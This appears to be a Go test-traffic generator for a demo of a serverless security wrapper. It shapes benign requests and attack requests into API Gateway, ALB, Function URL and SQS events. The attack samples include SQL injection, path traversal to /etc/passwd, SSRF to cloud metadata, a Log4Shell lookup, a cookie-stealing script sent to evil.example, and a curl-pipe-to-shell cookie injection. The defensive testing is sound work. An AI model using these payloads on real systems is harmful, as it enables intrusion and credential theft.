package main

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
)

// Event sources the demo sends, as the wrapper names them.
const (
	srcAPIGWv1 = "apigw-v1"
	srcAPIGWv2 = "apigw-v2"
	srcALB     = "alb"
	srcURL     = "function-url"
	srcSQS     = "sqs"
)

// sources lists the demo's event sources in display order.
var sources = []string{srcAPIGWv1, srcAPIGWv2, srcALB, srcURL, srcSQS}

// call is one HTTP request to the demo function, sent as the event of an
// HTTP-shaped source.
type call struct {
	Method  string
	Path    string
	Query   [][2]string // in order; a key may repeat
	Headers map[string]string
	Cookies []string
	Body    string
}

// shot is one event of the demo's traffic.
type shot struct {
	// Source is the event source the event is shaped as.
	Source string
	// Label describes the request for the progress line.
	Label string
	// Attack tells attack traffic from benign traffic.
	Attack bool
	// Call is the HTTP request (HTTP sources).
	Call call
	// Records are SQS message bodies (SQS); Bad marks the attack records.
	Records []string
	Bad     []bool
}

// payload builds the event for s; n numbers the event for request ids.
func (s shot) payload(n int) ([]byte, error) {
	switch s.Source {
	case srcAPIGWv1:
		return apigwV1(s.Call, n)
	case srcAPIGWv2:
		return httpAPIv2(s.Call, n, fmt.Sprintf("demo%04d.execute-api.us-east-1.amazonaws.com", n))
	case srcURL:
		return httpAPIv2(s.Call, n, "h6p2l5n4jqyp3otwcwbtmx7hxq0oxqxy.lambda-url.us-east-1.on.aws")
	case srcALB:
		return alb(s.Call)
	case srcSQS:
		return sqs(s.Records, n)
	}
	return nil, fmt.Errorf("demo: unknown event source %q", s.Source)
}

func rawQuery(q [][2]string) string {
	parts := make([]string, len(q))
	for i, kv := range q {
		parts[i] = url.QueryEscape(kv[0]) + "=" + url.QueryEscape(kv[1])
	}
	return strings.Join(parts, "&")
}

func lastValues(q [][2]string) map[string]string {
	if len(q) == 0 {
		return nil
	}
	m := make(map[string]string, len(q))
	for _, kv := range q {
		m[kv[0]] = kv[1]
	}
	return m
}

func multiValues(q [][2]string) map[string][]string {
	if len(q) == 0 {
		return nil
	}
	m := make(map[string][]string, len(q))
	for _, kv := range q {
		m[kv[0]] = append(m[kv[0]], kv[1])
	}
	return m
}

func headers(c call, extra map[string]string) map[string]string {
	h := map[string]string{
		"accept":     "application/json",
		"user-agent": "Mozilla/5.0 (X11; Linux x86_64) demo-client/1.0",
	}
	for k, v := range extra {
		h[k] = v
	}
	for k, v := range c.Headers {
		h[strings.ToLower(k)] = v
	}
	if c.Body != "" {
		h["content-type"] = "application/json"
	}
	return h
}

// apigwV1 shapes c as an API Gateway REST API proxy event.
func apigwV1(c call, n int) ([]byte, error) {
	h := headers(c, map[string]string{"host": "api.example.com", "x-forwarded-proto": "https"})
	if len(c.Cookies) > 0 {
		h["cookie"] = strings.Join(c.Cookies, "; ")
	}
	mh := make(map[string][]string, len(h))
	for k, v := range h {
		mh[k] = []string{v}
	}
	return json.Marshal(map[string]any{
		"resource":                        c.Path,
		"path":                            c.Path,
		"httpMethod":                      c.Method,
		"headers":                         h,
		"multiValueHeaders":               mh,
		"queryStringParameters":           lastValues(c.Query),
		"multiValueQueryStringParameters": multiValues(c.Query),
		"pathParameters":                  nil,
		"stageVariables":                  nil,
		"requestContext": map[string]any{
			"accountId":    "123456789012",
			"resourcePath": c.Path,
			"httpMethod":   c.Method,
			"path":         "/prod" + c.Path,
			"stage":        "prod",
			"requestId":    fmt.Sprintf("c6af9ac6-7b61-11e6-9a41-93e8deadb%03d", n%1000),
			"identity":     map[string]any{"sourceIp": "198.51.100.7", "userAgent": h["user-agent"]},
			"apiId":        "1234567890",
		},
		"body":            nullable(c.Body),
		"isBase64Encoded": false,
	})
}

// httpAPIv2 shapes c as an HTTP API (payload 2.0) event, or a Function URL
// event when domain is a lambda-url domain.
func httpAPIv2(c call, n int, domain string) ([]byte, error) {
	h := headers(c, map[string]string{"host": domain, "x-forwarded-proto": "https"})
	ev := map[string]any{
		"version":               "2.0",
		"routeKey":              "$default",
		"rawPath":               c.Path,
		"rawQueryString":        rawQuery(c.Query),
		"headers":               h,
		"queryStringParameters": lastValues(c.Query),
		"requestContext": map[string]any{
			"accountId":    "123456789012",
			"apiId":        strings.SplitN(domain, ".", 2)[0],
			"domainName":   domain,
			"domainPrefix": strings.SplitN(domain, ".", 2)[0],
			"http": map[string]any{
				"method":    c.Method,
				"path":      c.Path,
				"protocol":  "HTTP/1.1",
				"sourceIp":  "198.51.100.7",
				"userAgent": h["user-agent"],
			},
			"requestId": fmt.Sprintf("JKJaXmPLvHcESHA=%04d", n),
			"routeKey":  "$default",
			"stage":     "$default",
			"time":      "23/Nov/2026:06:00:00 +0000",
			"timeEpoch": 1795413600000,
		},
		"isBase64Encoded": false,
	}
	if len(c.Cookies) > 0 {
		ev["cookies"] = c.Cookies
	}
	if c.Body != "" {
		ev["body"] = c.Body
	}
	return json.Marshal(ev)
}

// alb shapes c as an Application Load Balancer event (single-value
// headers; query values arrive URL-encoded, as ALB forwards them).
func alb(c call) ([]byte, error) {
	h := headers(c, map[string]string{"host": "demo-alb-123456.us-east-1.elb.amazonaws.com", "x-forwarded-proto": "http"})
	if len(c.Cookies) > 0 {
		h["cookie"] = strings.Join(c.Cookies, "; ")
	}
	var q map[string]string
	if len(c.Query) > 0 {
		q = make(map[string]string, len(c.Query))
		for _, kv := range c.Query {
			q[url.QueryEscape(kv[0])] = url.QueryEscape(kv[1])
		}
	}
	return json.Marshal(map[string]any{
		"requestContext": map[string]any{
			"elb": map[string]any{"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/demo/73e2d6bc24d8a067"},
		},
		"httpMethod":            c.Method,
		"path":                  c.Path,
		"queryStringParameters": q,
		"headers":               h,
		"body":                  c.Body,
		"isBase64Encoded":       false,
	})
}

// sqs shapes bodies as an SQS batch.
func sqs(bodies []string, n int) ([]byte, error) {
	recs := make([]map[string]any, len(bodies))
	for i, b := range bodies {
		recs[i] = map[string]any{
			"messageId":     messageID(n, i),
			"receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
			"body":          b,
			"attributes": map[string]any{
				"ApproximateReceiveCount": "1",
				"SentTimestamp":           "1795413600000",
				"SenderId":                "AIDAIENQZJOLO23YVJ4VO",
			},
			"messageAttributes": map[string]any{},
			"md5OfBody":         "e4e68fb7bd0e697a0ae8f1bb342846b3",
			"eventSource":       "aws:sqs",
			"eventSourceARN":    "arn:aws:sqs:us-east-1:123456789012:orders",
			"awsRegion":         "us-east-1",
		}
	}
	return json.Marshal(map[string]any{"Records": recs})
}

// messageID is the SQS message id of record i of event n.
func messageID(n, i int) string {
	return fmt.Sprintf("059f36b4-87a3-44ab-83d2-%06d%06d", n, i)
}

func nullable(s string) any {
	if s == "" {
		return nil
	}
	return s
}

func get(path string, q ...string) call {
	c := call{Method: "GET", Path: path}
	for i := 0; i+1 < len(q); i += 2 {
		c.Query = append(c.Query, [2]string{q[i], q[i+1]})
	}
	return c
}

func order(product, note string) call {
	b, _ := json.Marshal(map[string]string{"product": product, "note": note}) // strings always marshal
	return call{Method: "POST", Path: "/orders", Body: string(b)}
}

func with(c call, header, value string) call {
	if c.Headers == nil {
		c.Headers = map[string]string{}
	}
	c.Headers[header] = value
	return c
}

func withCookie(c call, cookie string) call {
	c.Cookies = append(c.Cookies, cookie)
	return c
}

// inputTraffic is the mixed stream of the first phase: benign requests
// and attacks in every position (query, path, header, cookie, JSON body,
// queue record) across the HTTP sources and SQS.
func inputTraffic() []shot {
	benign := func(src, label string, c call) shot { return shot{Source: src, Label: label, Call: c} }
	attack := func(src, label string, c call) shot { return shot{Source: src, Label: label, Attack: true, Call: c} }
	return []shot{
		benign(srcAPIGWv2, "search for a product", get("/products", "search", "press")),
		attack(srcAPIGWv2, "SQL injection in the search query", get("/products", "search", "x' UNION SELECT name, sql FROM sqlite_master--")),
		benign(srcAPIGWv2, "read a help page", get("/docs", "name", "shipping.txt")),
		attack(srcAPIGWv2, "path traversal to /etc/passwd", get("/docs", "name", "../../../../etc/passwd")),
		// The function concatenates the note into its INSERT, so a note with
		// an apostrophe would change that statement (the SQL guard would
		// rightly stop it); prose with apostrophes goes through SQS below,
		// which the function stores with parameters.
		benign(srcAPIGWv2, "place an order", order("grinder", "Gift wrap, please: a birthday present!")),
		attack(srcAPIGWv2, "SQL injection in a JSON body field", order("grinder", "x'); DROP TABLE orders;--")),
		attack(srcAPIGWv2, "SSRF to the instance metadata service", get("/preview", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")),

		benign(srcAPIGWv1, "search for a product", get("/products", "search", "milk")),
		attack(srcAPIGWv1, "tautology in the search query", get("/products", "search", "' OR '1'='1")),
		benign(srcAPIGWv1, "search with an apostrophe-free phrase", get("/products", "search", "cup")),
		attack(srcAPIGWv1, "Log4Shell lookup in a custom header", with(get("/products", "search", "cup"), "X-Api-Version", "${jndi:ldap://198.51.100.9:1389/a}")),
		attack(srcAPIGWv1, "script injection in an order note", order("milk jug", `<script>fetch("//evil.example/?c="+document.cookie)</script>`)),
		attack(srcAPIGWv1, "command injection in a cookie", withCookie(get("/products", "search", "cup"), "session=abc; $(curl -s http://198.51.100.9/x|sh)")),

		benign(srcALB, "search for a product", get("/products", "search", "grinder")),
		benign(srcALB, "read a help page", get("/docs", "name", "returns.txt")),
		attack(srcALB, "template injection in the search query", get("/products", "search", "{{7*7}}${7*7}")),
		attack(srcALB, "path traversal in a URL path segment", get("/docs/..%2f..%2f..%2fetc%2fshadow")),
		attack(srcALB, "CRLF injection in a query value", get("/products", "search", "cup\r\nSet-Cookie: admin=true")),

		benign(srcURL, "search for a product", get("/products", "search", "espresso")),
		benign(srcURL, "place an order", order("french press", "Leave at the front door")),
		attack(srcURL, "NoSQL operator in a JSON body", call{Method: "POST", Path: "/orders", Body: `{"product":{"$ne":null},"note":"x"}`}),
		attack(srcURL, "prototype pollution in a JSON key", call{Method: "POST", Path: "/orders", Body: `{"product":"cup","__proto__":{"isAdmin":true}}`}),
		attack(srcURL, "SQL injection in a cookie", withCookie(get("/products", "search", "cup"), "tracking=1' AND SLEEP(5)-- -")),

		{Source: srcSQS, Label: "order batch (3 records)", Records: []string{
			`{"product":"espresso cup","note":"It's for my brother's birthday, blue please"}`,
			`{"product":"grinder","note":"express shipping"}`,
			`{"product":"milk jug","note":"no note"}`,
		}, Bad: []bool{false, false, false}},
		{Source: srcSQS, Label: "order batch with one poisoned record", Attack: true, Records: []string{
			`{"product":"french press","note":"thanks!"}`,
			`{"product":"grinder","note":"'; DELETE FROM orders WHERE '1'='1"}`,
			`{"product":"espresso cup","note":"gift"}`,
		}, Bad: []bool{false, true, false}},
	}
}

// sinkTraffic is the second phase: the same exploits sent to the sinks
// while the input rules only monitor, so the sink guards decide.
func sinkTraffic(runtimeAPI, partner string) []shot {
	benign := func(label string, c call) shot { return shot{Source: srcAPIGWv2, Label: label, Call: c} }
	attack := func(label string, c call) shot { return shot{Source: srcAPIGWv2, Label: label, Attack: true, Call: c} }
	return []shot{
		benign("search for a product (SQL + partner API call)", get("/products", "search", "press")),
		attack("SQL injection reaches the query", get("/products", "search", "x' UNION SELECT name, sql FROM sqlite_master--")),
		attack("tautology reaches the query", get("/products", "search", "' OR '1'='1")),
		benign("place an order", order("grinder", "Gift wrap, please")),
		attack("SQL injection reaches an INSERT", order("grinder", "x'); DROP TABLE orders;--")),
		benign("read a help page", get("/docs", "name", "shipping.txt")),
		attack("traversal reaches the file read", get("/docs", "name", "../../../../etc/passwd")),
		attack("read of the function's credentials", get("/docs", "name", "../../../../proc/self/environ")),
		attack("SSRF to the instance metadata service", get("/preview", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
		attack("SSRF to the Lambda Runtime API (steals the next event)", get("/preview", "url", "http://"+runtimeAPI+"/2018-06-01/runtime/invocation/next")),
		attack("SSRF to an allowed partner, steered by the caller", get("/preview", "url", partner+"/admin")),
		{Source: srcSQS, Label: "order batch with an injection (stored with a parameterised INSERT)", Attack: true, Records: []string{
			`{"product":"grinder","note":"'; DELETE FROM orders WHERE '1'='1"}`,
			`{"product":"espresso cup","note":"gift"}`,
		}, Bad: []bool{true, false}},
	}
}

// baselineTraffic is benign traffic for the latency comparison.
func baselineTraffic() []shot {
	return []shot{
		{Source: srcAPIGWv2, Label: "search", Call: get("/products", "search", "press")},
		{Source: srcAPIGWv2, Label: "order", Call: order("grinder", "Gift wrap, please")},
		{Source: srcAPIGWv2, Label: "help page", Call: get("/docs", "name", "shipping.txt")},
	}
}
